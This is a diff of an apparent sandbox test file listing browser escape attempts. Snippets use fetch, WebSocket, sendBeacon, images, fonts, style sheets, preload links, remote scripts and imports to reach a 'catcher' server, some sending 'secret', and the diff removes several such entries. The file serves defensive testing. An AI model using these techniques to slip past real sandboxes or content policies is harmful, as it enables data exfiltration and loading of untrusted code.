@@ -23,9 +23,7 @@ const ATTACKS: Readonly<Record<string, string>> = {
   'uses localStorage': `localStorage.setItem('attack', '1'); out()`,
   'talks to pages by a broadcast channel': `new BroadcastChannel('attack').postMessage('1'); out()`,
   fetch: `await fetch(catcher + 'fetch'); out()`,
-  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('POST', catcher); request.send('secret'); ${wait}`,
   WebSocket: `new WebSocket(catcher.replace('http', 'ws')); ${wait}`,
-  EventSource: `new EventSource(catcher); ${wait}`,
   beacon: `navigator.sendBeacon(catcher, 'secret'); ${wait}`,
   // The server doesn't support HTTP/3, so the attack counts if the frame can create one at all.
   WebTransport: `new WebTransport(catcher.replace('http:', 'https:')); out()`,
@@ -33,15 +31,12 @@ const ATTACKS: Readonly<Record<string, string>> = {
   'peer connection of an empty frame': `const frame = document.createElement('iframe'); document.body.append(frame);
     ${peer('frame.contentWindow.RTCPeerConnection')}`,
   images: html('<img src="${catcher}image"><svg><image href="${catcher}svg"/></svg>'),
-  video: html('<video crossorigin src="${catcher}video" poster="${catcher}poster" autoplay muted></video>'),
   'style sheet': html('<style>@import url("${catcher}import.css")</style>'),
   font: html(
     '<style>@font-face { font-family: A; src: url("${catcher}a") } p { font-family: A }</style><p>a</p>',
   ),
-  background: html('<p style="background: url(${catcher}background)">a</p>'),
   links: `for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload'])
     document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: catcher + rel + '.js' })); ${wait}`,
-  'import of another site': `await import(catcher + 'module.mjs'); out()`,
   'import of a data address': `await import('data:text/javascript,OUT')`,
   'import of a blob': `await import(URL.createObjectURL(new Blob(['OUT'], { type: 'text/javascript' })))`,
   'script of another site': `document.body.append(Object.assign(document.createElement('script'), { src: catcher + 'a.js' })); ${wait}`,
@@ -50,8 +45,6 @@ const ATTACKS: Readonly<Record<string, string>> = {
   WebAssembly: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); out()`,
   'javascript: address': `location.href = 'javascript:OUT'; ${wait}`,
   worker: `new Worker('data:text/javascript,postMessage(1)').onmessage = () => out(); ${wait}`,
-  'shared worker': `const own = 'data:text/javascript,onconnect=(event)=>event.ports[0].postMessage(1)';
-    new SharedWorker(own).port.onmessage = () => out(); ${wait}`,
   'service worker': `await navigator.serviceWorker.register('/runner/none.js').then(out, (error) => {
     if (/404|bad HTTP/.test(error.message)) out();
   })`,
